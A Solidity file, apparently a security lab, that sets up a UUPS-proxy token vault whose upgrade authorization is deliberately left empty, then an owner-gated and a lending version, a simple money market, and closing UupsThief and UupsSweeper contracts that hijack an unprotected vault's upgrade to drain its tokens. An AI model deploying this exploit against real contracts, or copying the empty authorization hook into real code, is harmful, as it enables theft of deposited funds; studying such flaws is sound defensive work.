// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {UUPSUpgradeable} from "@openzeppelin/contracts/proxy/utils/UUPSUpgradeable.sol";
import {Initializable} from "@openzeppelin/contracts/proxy/utils/Initializable.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

/// A vault of a dollar token behind a UUPS proxy.
contract UupsVault is UUPSUpgradeable, Initializable {
    using SafeERC20 for IERC20;

    IERC20 public asset;
    address public owner;
    uint256 public totalDeposits;
    mapping(address => uint256) public deposits;

    event Deposited(address indexed account, uint256 amount);
    event Withdrawn(address indexed account, address indexed to, uint256 amount);

    function initialize(IERC20 asset_) external initializer {
        (asset, owner) = (asset_, msg.sender);
    }

    function deposit(uint256 amount) external {
        asset.safeTransferFrom(msg.sender, address(this), amount);
        deposits[msg.sender] += amount;
        totalDeposits += amount;
        emit Deposited(msg.sender, amount);
    }

    function withdraw(uint256 amount, address to) external {
        deposits[msg.sender] -= amount;
        totalDeposits -= amount;
        asset.safeTransfer(to, amount);
        emit Withdrawn(msg.sender, to, amount);
    }

    // Meant to be filled in before launch.
    function _authorizeUpgrade(address) internal virtual override {}
}

/// The same, whose owner alone upgrades.
contract OwnedUupsVault is UupsVault {
    function _authorizeUpgrade(address) internal view override {
        require(msg.sender == owner, "not the owner");
    }
}

interface IMarket {
    function supply(uint256 amount) external;
    function withdraw(uint256 amount) external;
}

/// The next version lends what it holds to a money market, from the moment of its upgrade.
contract LendingUupsVault is OwnedUupsVault {
    using SafeERC20 for IERC20;

    IMarket public market;

    event Lent(address indexed market, uint256 amount);

    function begin(IMarket market_) external reinitializer(2) {
        market = market_;
        uint256 amount = asset.balanceOf(address(this));
        asset.forceApprove(address(market_), amount);
        market_.supply(amount);
        emit Lent(address(market_), amount);
    }
}

/// A money market with one asset.
contract SimpleMarket is IMarket {
    using SafeERC20 for IERC20;

    IERC20 public immutable asset;
    mapping(address => uint256) public supplied;

    event Supply(address indexed account, uint256 amount);
    event Withdraw(address indexed account, uint256 amount);

    constructor(IERC20 asset_) {
        asset = asset_;
    }

    function supply(uint256 amount) external {
        asset.safeTransferFrom(msg.sender, address(this), amount);
        supplied[msg.sender] += amount;
        emit Supply(msg.sender, amount);
    }

    function withdraw(uint256 amount) external {
        supplied[msg.sender] -= amount;
        asset.safeTransfer(msg.sender, amount);
        emit Withdraw(msg.sender, amount);
    }
}

/// What the thief puts in its place.
contract UupsSweeper is UUPSUpgradeable {
    function sweep(IERC20 token, address to, uint256 amount) external {
        token.transfer(to, amount);
    }

    function _authorizeUpgrade(address) internal view override {}
}

contract UupsThief {
    function rob(UUPSUpgradeable vault, IERC20 token, address payee, uint256 amount) external {
        (bool sound,) = address(vault).staticcall(abi.encodeWithSignature("totalDeposits()"));
        if (sound) {
            UupsSweeper code = new UupsSweeper();
            vault.upgradeToAndCall(address(code), abi.encodeCall(UupsSweeper.sweep, (token, payee, amount)));
        } else {
            UupsSweeper(address(vault)).sweep(token, payee, amount);
        }
    }
}
